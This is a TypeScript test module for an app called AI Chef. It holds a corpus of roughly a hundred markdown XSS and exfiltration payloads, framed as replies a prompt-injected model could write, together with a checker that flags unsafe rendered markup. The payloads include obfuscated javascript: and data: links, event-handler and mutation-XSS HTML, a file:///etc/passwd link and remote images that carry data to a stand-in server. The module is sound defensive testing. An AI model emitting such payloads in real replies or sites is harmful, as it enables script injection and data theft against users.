/**
 * Replies a prompt-injected model could write to run script, leave the page or carry data out,
 * written for AI Chef from the classes in the OWASP XSS filter evasion cheat sheet,
 * PayloadsAllTheThings' markdown section and markdown-it's XSS fixtures.
 *
 * Every payload that could run script calls `__xss(id)` (the tests expose that function and record
 * the id), and every remote address points at `evil`, a server on loopback that records any hit, so a
 * failure names its payload and no traffic ever leaves the machine.
 */
export type Payload = {
  id: string;
  name: string;
  markdown: string;
  /** Raw HTML or a code fence left open on purpose: it runs to the end of the reply, so it goes last. */
  swallowsRest?: boolean;
  /** Links the policy must keep (allowed schemes): for each prefix, some link's `href` starts with it. */
  keeps?: string[];
};

type Context = { id: string; call: string; evil: string; hostport: string };
type Entry = [name: string, build: (c: Context) => string, options?: { swallowsRest?: boolean; keeps?: (c: Context) => string[] }];

const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
const entities = (text: string) => [...text].map((char) => `&#${char.charCodeAt(0)};`).join("");
const svgWith = (c: Context) => base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.${c.call}"><script>top.${c.call}</script></svg>`);
const htmlWith = (c: Context) => base64(`<script>opener.${c.call};top.${c.call}</script>`);

const ENTRIES: Entry[] = [
  // Links whose scheme is script, in every spelling a parser or a browser might accept.
  ["javascript: link", (c) => `[click me](javascript:${c.call})`],
  ["upper-case scheme", (c) => `[a](JAVASCRIPT:${c.call})`],
  ["mixed-case scheme", (c) => `[a](JaVaScRiPt:${c.call})`],
  ["hex entity inside the scheme", (c) => `[a](jav&#x61;script:${c.call})`],
  ["decimal entity inside the scheme", (c) => `[a](jav&#97;script:${c.call})`],
  ["scheme spelled in entities only", (c) => `[a](${entities("javascript:")}${c.call})`],
  ["hex entity with leading zeros", (c) => `[a](&#x0006A;avascript:${c.call})`],
  ["named entity for the colon", (c) => `[a](javascript&colon;${c.call})`],
  ["named tab entity inside the scheme", (c) => `[a](java&Tab;script:${c.call})`],
  ["named newline entity inside the scheme", (c) => `[a](java&NewLine;script:${c.call})`],
  ["carriage return entity inside the scheme", (c) => `[a](java&#13;script:${c.call})`],
  ["literal tab inside the scheme", (c) => `[a](<java\tscript:${c.call}>)`],
  ["leading C0 control character", (c) => `[a](<\u0001javascript:${c.call}>)`],
  ["leading spaces before the scheme", (c) => `[a](<   javascript:${c.call}>)`],
  ["NUL entity before the scheme", (c) => `[a](&#0;javascript:${c.call})`],
  ["zero-width space inside the scheme", (c) => `[a](java\u200Bscript:${c.call})`],
  ["full-width letters", (c) => `[a](ｊａｖａｓｃｒｉｐｔ:${c.call})`],
  ["backslash-escaped colon", (c) => `[a](javascript\\:${c.call})`],
  ["percent-encoded script", (c) => `[a](javascript:%5f%5fxss%28'${c.id}'%29)`],
  ["comment and newline trick", (c) => `[a](javascript://%0a${c.call})`],
  ["autolink javascript:", (c) => `<javascript:${c.call}>`],
  ["autolink upper case", (c) => `<JAVASCRIPT:${c.call}>`],
  ["autolink with an entity", (c) => `<jav&#x61;script:${c.call}>`],
  ["bare javascript: text", (c) => `javascript:${c.call}`],
  ["reference-style link", (c) => `[a][ref-${c.id}]\n\n[ref-${c.id}]: javascript:${c.call}`],
  ["reference-style link, angle destination and title", (c) => `[a][r2-${c.id}]\n\n[r2-${c.id}]: <javascript:${c.call}> "title"`],
  ["collapsed reference link", (c) => `[c-${c.id}][]\n\n[c-${c.id}]: JaVaScRiPt:${c.call}`],
  ["shortcut reference link with entity", (c) => `[s-${c.id}]\n\n[s-${c.id}]: jav&#x61;script:${c.call}`],
  ["vbscript: link", (c) => `[a](vbscript:msgbox("${c.id}"))`],
  ["VBScript mixed case", (c) => `[a](VBScript:${c.call})`],
  ["data:text/html link, base64", (c) => `[a](data:text/html;base64,${htmlWith(c)})`],
  ["data:text/html link, percent-encoded", (c) => `[a](data:text/html,%3Cscript%3E${c.call}%3C/script%3E)`],
  ["DATA: upper case", (c) => `[a](DATA:text/html;base64,${htmlWith(c)})`],
  ["data:image/svg+xml link", (c) => `[a](data:image/svg+xml;base64,${svgWith(c)})`],
  ["autolink data:", (c) => `<data:text/html;base64,${htmlWith(c)}>`],
  ["file: link", () => `[a](file:///etc/passwd)`],
  ["blob: link", (c) => `[a](blob:${c.evil}/0b3e)`],
  ["view-source: link", (c) => `[a](view-source:${c.evil}/)`],
  ["about: and chrome: links", () => `[a](about:blank) [b](chrome://settings)`],
  ["ftp:, ws: and intent: links", (c) => `[a](ftp://${c.hostport}/x) [b](ws://${c.hostport}/) [c](intent://x#Intent;end)`],
  ["protocol-relative link", (c) => `[a](//${c.hostport}/leak)`],
  ["backslash host trick", (c) => `[a](/\\${c.hostport}/leak)`],
  ["relative link", () => `[a](leak?x=1)`],
  [
    "title that tries to break out of the attribute",
    (c) => `[a](https://${c.hostport}/ok "x\\" onmouseover=\\"${c.call}")`,
    { keeps: (c) => [`https://${c.hostport}/ok`] },
  ],
  [
    "quotes inside the destination",
    (c) => `[a](https://${c.hostport}/"onmouseover="${c.call})`,
    { keeps: (c) => [`https://${c.hostport}/%22onmouseover=%22`] },
  ],
  ["raw HTML inside link text", (c) => `[<img src=x onerror="${c.call}">](https://${c.hostport}/ok)`, { keeps: (c) => [`https://${c.hostport}/ok`] }],
  [
    "the allowed schemes keep their address",
    () => `[mail](mailto:chef@example.org) [chat](xmpp:chef@example.org) [irc](irc://irc.example.org/chef)`,
    { keeps: () => ["mailto:chef@example.org", "xmpp:chef@example.org", "irc://irc.example.org/chef"] },
  ],

  // Images: any fetch can carry the visitor's data out.
  ["remote image", (c) => `![leak](${c.evil}/leak.png?data=eggs)`],
  ["protocol-relative image", (c) => `![leak](//${c.hostport}/pr.png)`],
  ["reference-style image", (c) => `![leak][img-${c.id}]\n\n[img-${c.id}]: ${c.evil}/ref.png`],
  ["collapsed reference image, protocol-relative", (c) => `![i2-${c.id}][]\n\n[i2-${c.id}]: //${c.hostport}/ref2.png`],
  ["image inside a link", (c) => `[![inner](${c.evil}/inner.png)](https://${c.hostport}/ok)`, { keeps: (c) => [`https://${c.hostport}/ok`] }],
  ["javascript: image", (c) => `![x](javascript:${c.call})`],
  ["data: SVG image with script", (c) => `![x](data:image/svg+xml;base64,${svgWith(c)})`],
  ["alt text that tries to break out", (c) => `![x" onerror="${c.call}](${c.evil}/a.png)`],
  ["image title that tries to break out", (c) => `![x](${c.evil}/t.png "a\\" onerror=\\"${c.call}")`],
  ["same-origin image", () => `![x](/api/health)`],
  ["entity-encoded image address", (c) => `![x](&#x68;ttp://${c.hostport}/e.png)`],

  // Raw HTML, which must never become HTML.
  ["script element", (c) => `<script>${c.call}</script>`],
  ["external script, upper case", (c) => `<SCRIPT SRC="${c.evil}/x.js"></SCRIPT>`],
  ["inline script inside a paragraph", (c) => `text <script>${c.call}</script> text`],
  ["img onerror", (c) => `<img src="x" onerror="${c.call}">`],
  ["IMG OnErRoR, unquoted", (c) => `<IMG SRC=x OnErRoR=${c.call}>`],
  ["img srcset", (c) => `<img srcset="${c.evil}/s.png 1x" alt="s">`],
  ["svg onload", (c) => `<svg onload="${c.call}"></svg>`],
  ["script inside svg", (c) => `<svg><script>${c.call}</script></svg>`],
  ["svg animate onbegin", (c) => `<svg><animate onbegin="${c.call}" attributeName="x" dur="1s"/></svg>`],
  ["iframe with a javascript: source", (c) => `<iframe src="javascript:${c.call}"></iframe>`],
  ["iframe srcdoc", (c) => `<iframe srcdoc="<script>parent.${c.call}</script>"></iframe>`],
  ["form posting to javascript:", (c) => `<form action="javascript:${c.call}"><button>Send</button></form>`],
  ["button formaction", (c) => `<button formaction="javascript:${c.call}">go</button>`],
  ["base element re-rooting relative links", (c) => `<base href="${c.evil}/">\n\n[relative](x)`],
  ["meta refresh to javascript:", (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c.call}">`],
  ["meta refresh to another site", (c) => `<meta http-equiv="refresh" content="0;url=${c.evil}/away">`],
  ["meta policy that loosens the CSP", () => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`],
  ["style element with remote import", (c) => `<style>@import url("${c.evil}/x.css"); body { background: url("${c.evil}/bg.png") }</style>`],
  ["stylesheet link", (c) => `<link rel="stylesheet" href="${c.evil}/l.css">`],
  ["object data", (c) => `<object data="javascript:${c.call}"></object>`],
  ["embed src", (c) => `<embed src="${c.evil}/e.swf">`],
  ["details ontoggle", (c) => `<details open ontoggle="${c.call}"><summary>s</summary></details>`],
  ["input autofocus onfocus", (c) => `<input autofocus onfocus="${c.call}">`],
  ["raw anchor with javascript:", (c) => `<a href="javascript:${c.call}">raw link</a>`],
  ["body onload", (c) => `<body onload="${c.call}">`],
  ["video poster and source onerror", (c) => `<video poster="${c.evil}/p.png"><source src="${c.evil}/v.mp4" onerror="${c.call}"></video>`],
  ["math mutation XSS", (c) => `<math><mtext><table><mglyph><style><img src=x onerror="${c.call}"></style></mglyph></table></mtext></math>`],
  ["comment confusion", (c) => `<!--><img src=x onerror="${c.call}">-->`],
  ["noscript confusion", (c) => `<noscript><p title="</noscript><img src=x onerror=${c.call}>"></noscript>`],
  ["inline style with javascript: URL", (c) => `<div style="background:url(javascript:${c.call})">styled</div>`],
  ["custom element onclick", (c) => `<x-chef onclick="${c.call}">tap</x-chef>`],
  ["markdown inside HTML", (c) => `<div>\n\n[inner](javascript:${c.call})\n\n![inner](${c.evil}/in.png)\n\n</div>`],
  ["HTML wrapped around a markdown link", (c) => `<a href="${c.evil}/wrap">[text](javascript:${c.call})</a>`],
  ["entity-encoded tags", (c) => `&lt;script&gt;${c.call}&lt;/script&gt;`],
  ["code span and fenced HTML", (c) => `\`<script>${c.call}</script>\`\n\n\`\`\`html\n<img src=x onerror="${c.call}">\n\`\`\``],
  ["table cells with HTML and a script link", (c) => `| a | b |\n| --- | --- |\n| <img src=x onerror="${c.call}"> | [x](javascript:${c.call}) |`],
  ["footnote with a script link and an image", (c) => `Note[^f${c.id}]\n\n[^f${c.id}]: [a](javascript:${c.call}) ![b](${c.evil}/fn.png)`],
  ["task list with HTML and vbscript:", (c) => `- [ ] <img src=x onerror="${c.call}">\n- [x] [a](vbscript:${c.call})`],
  ["blockquote with svg and a script link", (c) => `> <svg onload="${c.call}">\n> [a](javascript:${c.call})`],
  ["heading with HTML", (c) => `# <img src=x onerror="${c.call}"> heading`],
  ["CDATA section", (c) => `<![CDATA[<script>${c.call}</script>]]>`],
  ["processing instruction", (c) => `<?xml-stylesheet href="${c.evil}/x.xsl"?>`],
  ["template element", (c) => `<template><img src=x onerror="${c.call}"></template>`],
  ["frameset onload", (c) => `<frameset onload="${c.call}">`],
  ["event handler with entity-encoded name", (c) => `<img src=x &#111;nerror="${c.call}">`],

  // Left open on purpose: each runs to the end of its reply.
  ["unclosed script element", (c) => `<script>${c.call}`, { swallowsRest: true }],
  ["unclosed style element", (c) => `<style>* { background: url(${c.evil}/u.png) }`, { swallowsRest: true }],
  ["unclosed comment", (c) => `<!-- <img src=x onerror="${c.call}">`, { swallowsRest: true }],
  ["unclosed code fence", (c) => `\`\`\`\n<script>${c.call}</script>`, { swallowsRest: true }],
  ["unclosed textarea", (c) => `<textarea><img src=x onerror="${c.call}">`, { swallowsRest: true }],
];

/** The corpus, with `evil` the origin of the recording server on loopback (http://127.0.0.1:port). */
export function hostilePayloads(evil: string): Payload[] {
  const hostport = new URL(evil).host;
  return ENTRIES.map(([name, build, options], index) => {
    const id = `H${String(index + 1).padStart(3, "0")}`;
    const context: Context = { id, call: `__xss('${id}')`, evil, hostport };
    return {
      id,
      name,
      markdown: build(context),
      ...(options?.swallowsRest ? { swallowsRest: true } : {}),
      ...(options?.keeps ? { keeps: options.keeps(context) } : {}),
    };
  });
}

/** The text that follows each payload in a reply; seeing it proves the payload did not swallow the rest. */
export const sentinel = (payload: Payload) => `END-${payload.id}`;

/** One reply: each payload between headings, followed by its sentinel on its own paragraph. */
export function replyFor(payloads: Payload[]): string {
  return `# Hostile recipe\n\n${payloads.map((payload) => `${payload.markdown}\n\n${sentinel(payload)}\n\n`).join("")}`;
}

/** Groups payloads into replies of about `size`, each reply ending with at most one that swallows the rest. */
export function batches(payloads: Payload[], size: number): Payload[][] {
  const closed = payloads.filter((payload) => !payload.swallowsRest);
  const open = payloads.filter((payload) => payload.swallowsRest);
  const groups: Payload[][] = [];
  for (let i = 0; i < closed.length; i += size) groups.push(closed.slice(i, i + size));
  open.forEach((payload, index) => {
    const group = groups[index];
    if (group) group.push(payload);
    else groups.push([payload]);
  });
  return groups;
}

/** Link schemes the markdown policy lets through (docs/decisions/003-markdown-policy.md). */
export const ALLOWED_SCHEMES = ["http:", "https:", "irc:", "mailto:", "xmpp:"];

/**
 * What is wrong with rendered markdown under `root`, as readable lines (empty when nothing is).
 * Self-contained, so Playwright can run it in the page as well as jsdom in a component test.
 */
export function findMarkupProblems(root: Element, allowedSchemes: string[]): string[] {
  // Exactly what react-markdown and GFM produce from markdown; raw HTML can only add to it.
  const tags = new Set([
    "div", "p", "span", "h1", "h2", "h3", "h4", "h5", "h6", "a", "em", "strong", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "input", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "sup", "section",
  ]);
  const attributes = /^(href|target|rel|title|class|id|start|type|checked|disabled|align|style|aria-[a-z]+|data-footnote[a-z-]*)$/;
  const problems: string[] = [];
  const describe = (element: Element) => element.outerHTML.slice(0, 160);
  for (const element of [root, ...root.querySelectorAll("*")]) {
    const tag = element.localName;
    if (!tags.has(tag)) problems.push(`element <${tag}>: ${describe(element)}`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) problems.push(`handler ${name}: ${describe(element)}`);
      else if (!attributes.test(name)) problems.push(`attribute ${name}: ${describe(element)}`);
      else if (name === "style" && !/^text-align: ?(left|right|center);?$/.test(value)) problems.push(`style: ${describe(element)}`);
      else if (name === "href" && tag !== "a") problems.push(`href on <${tag}>: ${describe(element)}`);
    }
    if (tag === "a") {
      const href = element.getAttribute("href");
      let scheme = "";
      try {
        scheme = new URL(href ?? "").protocol;
      } catch {
        scheme = "(unparsable)";
      }
      if (!allowedSchemes.includes(scheme)) problems.push(`link scheme ${scheme}: ${describe(element)}`);
      const rel = (element.getAttribute("rel") ?? "").split(/\s+/);
      if (!rel.includes("noopener") || !rel.includes("noreferrer")) problems.push(`link rel: ${describe(element)}`);
    }
    if (tag === "input" && !(element.getAttribute("type") === "checkbox" && element.hasAttribute("disabled"))) {
      problems.push(`live input: ${describe(element)}`);
    }
  }
  return problems;
}
